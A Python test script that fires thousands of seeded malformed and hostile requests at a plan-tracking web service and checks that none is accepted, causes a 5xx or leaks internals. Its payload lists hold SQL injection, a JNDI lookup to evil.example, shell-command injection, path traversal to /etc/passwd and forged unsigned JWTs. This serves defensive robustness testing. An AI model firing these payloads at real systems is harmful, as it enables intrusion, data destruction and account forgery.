#!/usr/bin/env python3
"""Sends at least 5,000 malformed or hostile requests to a running tracker and checks that none is answered with a
5xx, that no answer leaks a stack trace, SQL or a class name, and (checked by the calling script) that the event store
did not change.

Every request is built so that it must be refused: a body with a defect (wrong type, missing or unknown field,
oversized, deeply nested, broken JSON, a personnummer, a bad date), a valid body aimed at a record that does not
exist or whose identifier is taken, a caller without the right (no credentials, a wrong password, a reading role,
a forged or unsigned JWT), or a hostile path, query, header or method. Unicode edge cases and injection strings go
into every place a value can go. The generator is seeded, so a run can be repeated exactly.

Usage: scripts/lib/hostile_requests.py BASE_URL (through scripts/hostile-requests-check) [--seed N] [--count N]
Prints the cases by category and by status, and exits 1 on any 5xx or leak.
"""
import argparse
import base64
import collections
import http.client
import json
import random
import re
import sys
import threading
import time
import urllib.parse

PLAN = "stockholm-asf-2021"
ACTIVITY = "natverk-bjuda-in-asf-till-integrationspakten"
MISSING = "finns-inte-hostile"

INJECTIONS = [
    "'; drop table domain_event_entry; --", "\" or 1=1 --", "1; select pg_sleep(5)", "${jndi:ldap://evil.example/a}",
    "<script>alert(1)</script>", "{{7*7}}", "#{7*7}", "../../../../etc/passwd", "..%2f..%2fetc%2fpasswd",
    "%00", "\r\nSet-Cookie: x=y", "$(reboot)", "`id`", "| cat /etc/passwd", "\\u0000", "${7*7}", "%s%s%s%n",
    "' UNION SELECT payload FROM domain_event_entry --", "<!--#exec cmd=\"ls\"-->", "\\\\evil\\share",
]
UNICODE = [
    "\u0000", "\u202e" + "fdp.exe", "\u200b\u200d\u2060", "A\u0301\u0301\u0301\u0301\u0301", "\U0001F600" * 50,
    "\ufeff", "\uffff", "\ud800", "\udfff", "e\u0301", "\u0130\u0131", "ǅ", "\u2028\u2029", "\x1b[31m", "\x7f",
    "Å" * 300, "\U0010FFFF", "ﷺ" * 100, "𝔘𝔫𝔦𝔠𝔬𝔡𝔢", "\u0085", "\t\n\r\v\f",
]
def luhn_digit(nine):
    total = 0
    for i, ch in enumerate(nine):
        d = int(ch) * (2 if i % 2 == 0 else 1)
        total += d - 9 if d > 9 else d
    return str((10 - total % 10) % 10)


def personnummer(century, yymmdd, serial, separator="-"):
    return century + yymmdd + separator + serial + luhn_digit(yymmdd + serial)


# Luhn-valid personnummer and samordningsnummer (day + 60) with real dates, in the written forms the screening knows
PERSONNUMMER = [personnummer("19", "121212", "121"), personnummer("", "121212", "121"),
                personnummer("", "121212", "121", "+"), personnummer("19", "850709", "998", ""),
                personnummer("", "640823", "323", ""), personnummer("20", "010331", "234"),
                personnummer("19", "701063", "239"), "Kontakt: " + personnummer("19", "760512", "789")]
BAD_DATES = ["2024-13-01", "2024-02-30", "31/12/2024", "20240101", "2024-1-1", "yesterday", "9999999-01-01",
             20240101, True, [], {}, "0000-00-00", "2024-02-30T00:00:00"]
WRONG_TYPES = [123, -1, 1.5e308, True, None, [], {}, [1, 2], {"a": 1}, "abc", "", " ", "NaN", "Infinity",
               "9" * 400, -0.0, 10 ** 30]


def basic(user, password):
    return "Basic " + base64.b64encode(f"{user}:{password}".encode()).decode()


def b64url(data):
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def jwt(header, claims, signature=b""):
    return ".".join([b64url(json.dumps(header).encode()), b64url(json.dumps(claims).encode()), b64url(signature)])


BAD_JWTS = [
    jwt({"alg": "none", "typ": "JWT"}, {"sub": "mallory", "roles": ["COORDINATOR"], "exp": 4102444800}),
    jwt({"alg": "none"}, {"sub": "mallory", "scope": "coordinator"}) + "garbage",
    jwt({"alg": "HS256", "typ": "JWT"}, {"sub": "mallory", "roles": ["COORDINATOR"]}, b"\x00" * 32),
    jwt({"alg": "RS256", "kid": "unknown"}, {"sub": "mallory", "exp": 1}, b"\x01" * 256),
    jwt({"alg": "RS256"}, {"iss": "https://evil.example", "aud": "asf-plan-tracker", "sub": "x"}, b"x" * 256),
    "not.a.jwt", "a.b", "....", "", "eyJhbGciOiJub25lIn0", "Bearer", "x" * 9000,
    jwt({"alg": "ES256", "crit": ["exp"]}, {"sub": "x"}, b"\x02" * 64),
    jwt({"alg": "none", "jku": "https://evil.example/keys"}, {"sub": "x"}),
]


FORGED_API_TOKENS = ["asf_", "asf_" + "A" * 43, "asf_" + "A" * 5000, "asf_' OR '1'='1", "asf_%00",
                     "asf_\u00e5\u00e4\u00f6", "ASF_" + "B" * 43, "asf_" + "-_" * 22, "asf_ " + "C" * 43]


class Case:
    def __init__(self, category, method, path, body=None, content_type="application/json", auth="coordinator",
                 headers=None, raw=None):
        self.category = category
        self.method = method
        self.path = path
        self.body = body
        self.content_type = content_type
        self.auth = auth
        self.headers = headers or {}
        self.raw = raw


def templates():
    """Valid bodies, each with the path of a record that exists (set up beforehand) or a create path."""
    today = "2023-05-10"
    enterprise = "hostile-kafe"
    return [
        ("/api/plans/" + PLAN + "/areas", {"areaId": "hostile-omrade", "name": "Område", "occurredOn": today}),
        ("/api/plans/" + PLAN + "/activities", {"activityId": "hostile-aktivitet", "areaId": "natverkande",
                                                 "kind": "ACTIVITY", "title": "Aktivitet",
                                                 "responsibility": {"lead": "AMN"}, "occurredOn": today}),
        ("/api/plans/" + PLAN + "/activities/" + ACTIVITY + "/progress-reports", {"note": "Lägesrapport",
                                                                                 "occurredOn": today}),
        ("/api/plans/" + PLAN + "/activities/" + ACTIVITY + "/cancel", {"reason": "Skäl", "occurredOn": today}),
        ("/api/plans/" + PLAN + "/goals", {"goalId": "hostile-mal", "year": 2023, "kind": "COUNT",
                                           "measure": "EVENT_PARTICIPATIONS", "indicator": "Antal",
                                           "target": {"comparator": "AT_LEAST", "value": 3, "unit": "st"},
                                           "decision": {"body": "KS"}, "occurredOn": today}),
        ("/api/enterprises/" + enterprise + "/business-advice", {"provider": "Rådgivare", "hours": 2,
                                                                 "occurredOn": today}),
        ("/api/enterprises/" + enterprise + "/event-participations", {"kind": "SEMINAR", "eventName": "Seminarium",
                                                                      "occurredOn": today}),
        ("/api/enterprises/" + enterprise + "/integrationspakten/membership", {"level": "member",
                                                                               "occurredOn": today}),
        ("/api/enterprises/" + enterprise + "/details", {
            "name": "Kafé", "legalForm": "EKONOMISK_FORENING", "municipality": "Stockholm",
            "criteria": {"integrationPurpose": True, "employeeParticipation": True, "profitsReinvested": True,
                         "independentOfPublicSector": True}, "occurredOn": today}),
        ("/api/meetings", {"meetingId": "hostile-mote", "kind": "ROUND_TABLE", "title": "Möte",
                           "organiser": "SLK", "participants": [enterprise], "occurredOn": today}),
        ("/api/procurements", {"procurementId": "hostile-upphandling", "stage": "PLANNED", "authority": "AMN",
                               "subject": "Städ", "cpvCodes": ["90911200-8"], "procedure": "ORDINARY",
                               "occurredOn": today}),
        ("/api/procurements/hostile-upphandling/lots", {"numberOfLots": 2, "bidsMayCover": "ONE",
                                                         "occurredOn": today}),
        ("/api/procurements/hostile-upphandling/award", {"supplier": {"organisationNumber": "556000-0370"},
                                                          "value": 1000,
                                                          "contractPeriod": {"from": today, "to": "2024-05-10"},
                                                          "occurredOn": today}),
    ]


# Valid bodies that must still be refused because their record does not exist or their identifier is taken.
def refused_targets():
    today = "2023-05-10"
    return [
        ("/api/plans", {"planId": PLAN, "title": "Dubblett", "municipality": "Stockholm",
                        "adoption": {"body": "KS"}, "adoptedOn": "2021-08-31",
                        "period": {"fromYear": 2021, "toYear": 2024}}),
        ("/api/enterprises", {"enterpriseId": "hostile-kafe", "name": "Dubblett", "legalForm": "ENSKILD_FIRMA",
                              "municipality": "Stockholm",
                              "criteria": {"integrationPurpose": True, "employeeParticipation": True,
                                           "profitsReinvested": True, "independentOfPublicSector": True},
                              "occurredOn": today}),
        ("/api/plans/" + MISSING + "/activities/" + ACTIVITY + "/start", {"occurredOn": today}),
        ("/api/plans/" + MISSING + "/goals", {"goalId": "g", "year": 2023, "kind": "MANUAL", "indicator": "I",
                                              "target": {"comparator": "AT_LEAST", "value": 1, "unit": "st"},
                                              "decision": {"body": "KS"}, "occurredOn": today}),
        ("/api/enterprises/" + MISSING + "/integrationspakten/invitations", {"occurredOn": today}),
        ("/api/enterprises/" + MISSING + "/business-advice", {"provider": "P", "hours": 1, "occurredOn": today}),
        ("/api/meetings/" + MISSING + "/participant-corrections", {"participants": ["hostile-kafe"],
                                                                   "reason": "R", "occurredOn": today}),
        ("/api/procurements/" + MISSING + "/completion", {"occurredOn": today}),
        ("/api/procurements/" + MISSING + "/evaluations", {"text": "T", "occurredOn": today}),
        ("/api/admin/tokens/" + MISSING + "/revocation", {"reason": "R"}),
    ]


def deep(depth, kind):
    if kind == 0:
        return "[" * depth + "]" * depth
    return '{"a":' * depth + "1" + "}" * depth


def mutate_value(rng, value):
    choice = rng.random()
    if choice < 0.3:
        return rng.choice(WRONG_TYPES)
    if choice < 0.5:
        return rng.choice(INJECTIONS) + rng.choice(["", "x" * rng.randint(1, 5000)])
    if choice < 0.7:
        return rng.choice(UNICODE) * rng.randint(1, 3)
    if choice < 0.85:
        return rng.choice(PERSONNUMMER)
    return rng.choice(BAD_DATES)


def defective_body(rng, body):
    """A copy of a valid body with at least one defect that must make it refused."""
    body = json.loads(json.dumps(body))
    defect = rng.randrange(9)
    keys = list(body.keys())
    if defect == 0:  # unknown field, maybe with a hostile name
        body[rng.choice(["hostile", "__proto__", "constructor", "class", "@type", rng.choice(INJECTIONS)[:40],
                         rng.choice(UNICODE)[:10] or "x"])] = mutate_value(rng, "x")
        return body, "unknown-field"
    if defect == 1:  # every required field gone
        return {}, "missing-fields"
    if defect == 2:  # a text field with a personnummer
        text_keys = [k for k in keys if isinstance(body[k], str) and not k.endswith("Id") and k not in (
            "occurredOn", "kind", "level", "stage", "procedure", "legalForm", "comparator", "bidsMayCover",
            "adoptedOn", "measure", "areaId")]
        if text_keys:
            body[rng.choice(text_keys)] = rng.choice(PERSONNUMMER)
            return body, "personnummer"
        body["occurredOn"] = "2024-02-30"
        return body, "bad-date"
    if defect == 3:  # a bad date
        body["occurredOn"] = rng.choice(BAD_DATES)
        return body, "bad-date"
    if defect == 4:  # an oversized text
        key = rng.choice(keys)
        body[key] = "Å" * rng.choice([5000, 70000, 300000])
        return body, "oversized-field"
    if defect == 5:  # a wrong type for a field that must be an object, a list or an enum
        key = rng.choice(keys)
        body[key] = rng.choice([[1, 2, 3], {"nested": {"deeper": []}}, 1.5e308, -99999999999, True])
        body["hostile-marker"] = 1  # and unknown, so the body is refused whatever the type
        return body, "wrong-type"
    if defect == 6:  # a date in the future
        body["occurredOn"] = "2999-01-01"
        return body, "future-date"
    if defect == 7:  # an identifier that is no slug
        id_keys = [k for k in keys if k.endswith("Id")]
        if id_keys:
            body[rng.choice(id_keys)] = rng.choice(INJECTIONS + UNICODE + ["A B", "Ä", "x" * 300, "-", "19121212-1212"])
            return body, "bad-identifier"
        body["hostile"] = True
        return body, "unknown-field"
    body[rng.choice(keys)] = None  # a null where the record needs a value, plus an unknown field
    body["hostile"] = None
    return body, "null-field"


def build_cases(rng, count):
    cases = []
    tmpl = templates()
    refused = refused_targets()
    while len(cases) < count:
        kind = rng.random()
        if kind < 0.40:
            path, body = rng.choice(tmpl)
            mutated, category = defective_body(rng, body)
            cases.append(Case("body:" + category, "POST", path, json.dumps(mutated, ensure_ascii=rng.random() < 0.5)))
        elif kind < 0.50:
            path, body = rng.choice(refused)
            body = json.loads(json.dumps(body))
            # the identifier that makes the target refused stays as it is: without it (null) a record would be
            # created under a generated id, which is no refusal
            mutable = [key for key in body.keys() if not key.endswith("Id")]
            if mutable and rng.random() < 0.5:
                key = rng.choice(mutable)
                body[key] = mutate_value(rng, body[key])
            cases.append(Case("refused-target", "POST", path, json.dumps(body)))
        elif kind < 0.58:
            path, body = rng.choice(tmpl)
            text = json.dumps(body)
            broken = rng.choice([
                text[: rng.randint(0, len(text) - 1)], text + "}", text + text, "{" + text, text.replace(":", "=", 1),
                text.replace('"', "'"), "\x00" + text, "null", "[]", "true", "1", '""', "{,}", "{\"a\":}",
                text.replace("}", ",}", 1), deep(rng.choice([100, 1001, 5000, 20000]), rng.randrange(2)),
                "{\"occurredOn\": \"2023-01-01\", \"occurredOn\": \"2023-01-02\"}"])
            cases.append(Case("broken-json", "POST", path, broken))
        elif kind < 0.62:
            path, body = rng.choice(tmpl)
            raw = json.dumps(body).encode()
            raw = rng.choice([b"\xff\xfe" + raw, raw.replace(b"\"", b"\xc0\xa2", 1), raw[:-1] + b"\xed\xa0\x80\"}",
                              b"{\"name\": \"\xf8\x88\x80\x80\x80\"}", raw + b"\x00" * 10])
            cases.append(Case("invalid-utf8", "POST", path, raw))
        elif kind < 0.66:
            path, body = rng.choice(tmpl)
            content_type = rng.choice(["text/plain", "application/x-www-form-urlencoded", "multipart/form-data",
                                       "application/xml", None, "application/json; charset=ebcdic",
                                       "application/json; x=\"unterminated", "*/*", "application/yaml"])
            payload = json.dumps(body)
            if content_type == "application/yaml":
                payload = "a: &a [*a]\n" if rng.random() < 0.5 else "!!java.lang.Runtime {}\n"
            cases.append(Case("content-type", "POST", path, payload, content_type=content_type))
        elif kind < 0.74:
            path, body = rng.choice(tmpl + refused)
            auth = rng.choice(["none", "wrong-password", "auditor", "committee", "unknown-user", "malformed-basic",
                               "jwt", "api-token"])
            cases.append(Case("auth:" + auth, "POST", path, json.dumps(body), auth=auth))
        elif kind < 0.80:
            path = rng.choice(["/api/plans/" + PLAN, "/api/reports/register", "/api/enterprises", "/api/plans",
                               "/api/admin/tokens"])
            auth = rng.choice(["jwt", "api-token"])
            cases.append(Case("auth:" + auth + "-read", "GET", path, auth=auth))
        elif kind < 0.90:
            value = urllib.parse.quote(str(rng.choice(INJECTIONS + UNICODE + WRONG_TYPES + BAD_DATES)), safe="", errors="surrogatepass")
            path = rng.choice([
                "/api/plans/" + PLAN + "/reports/yearly-goals?year=" + value,
                "/api/plans/" + PLAN + "/reports/yearly-goals?year=2023&asOf=" + value,
                "/api/plans/" + PLAN + "/reports/yearly-goals?year=2023&format=" + value,
                "/api/reports/register?to=" + value, "/api/reports/procurement?from=" + value,
                "/api/reports/procurement?authority=" + value, "/api/reports/register?generation=" + value,
                "/api/plans/" + PLAN + "/reports/activity-follow-up?groupBy=" + value,
                "/api/plans/" + value, "/api/enterprises/" + value, "/api/meetings/" + value,
                "/api/procurements/" + value, "/api/plans/" + PLAN + "/activities/" + value,
                "/api/admin/projections/" + value, "/api/plans?municipality=" + value,
                "/api/reports/participation?asOf=" + value,
                "/api/enterprises?page=" + value, "/api/enterprises?size=" + value,
                "/api/enterprises?q=a&size=1&page=" + value, "/api/plans/" + PLAN + "/activities?size=" + value,
                "/api/admin/tokens?page=" + value, "/api/meetings?size=" + value])
            cases.append(Case("query-and-path", "GET", path, auth=rng.choice(["committee", "auditor", "coordinator"])))
        elif kind < 0.95:
            path, body = rng.choice(tmpl)
            header = rng.choice([
                {"X-Request-Id": rng.choice(PERSONNUMMER)},
                {"X-Request-Id": "x" * rng.choice([300, 5000])},
                {"X-Request-Id": rng.choice(INJECTIONS)},
                {"X-Request-Id": "\u00e5\u00e4\u00f6"},
            ])
            mutated, _ = defective_body(rng, body)
            cases.append(Case("header", "POST", path, json.dumps(mutated), headers=header))
        else:
            # CONNECT is left out: Tomcat's connector answers it with 501 Not Implemented before any application
            # code runs, which is the right answer for a method the service does not implement
            method = rng.choice(["PUT", "DELETE", "PATCH", "TRACE", "OPTIONS", "PROPFIND", "MKCOL", "BREW"])
            path = rng.choice(["/api/plans/" + PLAN, "/api/enterprises/hostile-kafe", "/api/plans",
                               "/api/../../etc/passwd", "/api/%2e%2e/%2e%2e/etc/passwd", "/api/plans/%00",
                               "/actuator/env", "/actuator/heapdump", "/actuator/loggers"])
            cases.append(Case("method-and-path", method, path, json.dumps({"x": 1}), auth=rng.choice(
                ["coordinator", "none"])))
    return cases


LEAKS = re.compile(r"(Exception|\tat |\bat [a-z]+\.[a-z]+\.|org\.springframework|org\.axonframework|java\.lang|"
                   r"se\.asfplan|SQLState|PSQLException|syntax error at|org\.h2|jdbc:|Caused by)")


def send(base, case):
    url = urllib.parse.urlsplit(base)
    connection = http.client.HTTPConnection(url.hostname, url.port, timeout=60)
    headers = dict(case.headers)
    if case.content_type is not None and case.body is not None:
        headers["Content-Type"] = case.content_type
    if case.auth == "coordinator":
        headers["Authorization"] = basic("coordinator", "coordinator")
    elif case.auth in ("auditor", "committee"):
        headers["Authorization"] = basic(case.auth, case.auth)
    elif case.auth == "wrong-password":
        headers["Authorization"] = basic("coordinator", "Coordinator")
    elif case.auth == "unknown-user":
        headers["Authorization"] = basic("mallory", "mallory")
    elif case.auth == "malformed-basic":
        headers["Authorization"] = random.choice(["Basic", "Basic !!!", "Basic " + "A" * 10000, "Digest x",
                                                  "Basic Y29vcmRpbmF0b3I="])
    elif case.auth == "jwt":
        headers["Authorization"] = "Bearer " + random.choice(BAD_JWTS)
    elif case.auth == "api-token":
        # forged, truncated, overlong and mangled API tokens: each is refused with 401, none reaches a handler
        headers["Authorization"] = "Bearer " + random.choice(FORGED_API_TOKENS)
    body = case.body.encode("utf-8", "surrogatepass") if isinstance(case.body, str) else case.body
    try:
        connection.putrequest(case.method, case.path, skip_accept_encoding=True)
        for name, value in headers.items():
            connection.putheader(name, value.encode("utf-8", "surrogatepass") if isinstance(value, str) else value)
        if body is not None:
            connection.putheader("Content-Length", str(len(body)))
        connection.endheaders(body)
        response = connection.getresponse()
        text = response.read(200_000).decode("utf-8", "replace")
        return response.status, text
    except ValueError:
        # Python's HTTP client refuses to put some hostile header values on the wire at all
        return "not sent (header refused by the client)", ""
    except (http.client.HTTPException, ConnectionError, OSError) as error:
        # the server may refuse an invalid request line or header before answering: that is a refusal, not a 5xx
        return "closed:" + type(error).__name__, ""
    finally:
        connection.close()


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("base")
    parser.add_argument("--seed", type=int, default=20261123)
    parser.add_argument("--count", type=int, default=5200)
    parser.add_argument("--threads", type=int, default=4)
    args = parser.parse_args()
    rng = random.Random(args.seed)
    cases = build_cases(rng, args.count)
    results = [None] * len(cases)
    position = [0]
    done = [0]
    durations = [0.0] * len(cases)
    lock = threading.Lock()

    def worker():
        while True:
            with lock:
                index = position[0]
                position[0] += 1
            if index >= len(cases):
                return
            began = time.monotonic()
            results[index] = send(args.base, cases[index])
            durations[index] = time.monotonic() - began
            with lock:
                done[0] += 1
                if done[0] % 500 == 0:
                    print(f"  {done[0]} of {len(cases)} sent", flush=True)

    threads = [threading.Thread(target=worker) for _ in range(args.threads)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()

    by_category = collections.Counter(case.category for case in cases)
    by_status = collections.Counter(str(status) for status, _ in results)
    failures = []
    for case, (status, text) in zip(cases, results):
        if isinstance(status, int) and status >= 500:
            failures.append(f"{status} {case.category} {case.method} {case.path[:120]} -> {text[:300]}")
        elif isinstance(status, int) and 200 <= status < 300 and case.method not in ("GET", "OPTIONS"):
            failures.append(f"{status} accepted {case.category} {case.method} {case.path[:120]}")
        elif LEAKS.search(text):
            failures.append(f"leak in {status} {case.category} {case.method} {case.path[:120]}: "
                            f"{LEAKS.search(text).group(0)} in {text[:300]}")
    print(f"hostile requests: {len(cases)} sent (seed {args.seed}), {len(by_category)} categories")
    for category, count in sorted(by_category.items()):
        print(f"  {category:28s} {count:5d}")
    slowest = sorted(range(len(cases)), key=lambda i: -durations[i])[:5]
    print("slowest: " + "; ".join(f"{durations[i]:.1f} s {cases[i].category} {cases[i].method} "
                                  f"{cases[i].path[:60]} -> {results[i][0]}" for i in slowest))
    print("answers by status: " + ", ".join(f"{status}: {count}" for status, count in sorted(by_status.items())))
    if failures:
        print(f"FAILED: {len(failures)} of {len(cases)} cases")
        for failure in failures[:40]:
            print("  " + failure)
        return 1
    unsent = sum(1 for status, _ in results if str(status).startswith("not sent"))
    print(f"passed: {len(cases) - unsent} of {len(cases) - unsent} cases sent ({unsent} the client would not send): "
          f"no 5xx, none accepted, no stack trace, SQL or class name in any answer")
    return 0


if __name__ == "__main__":
    sys.exit(main())
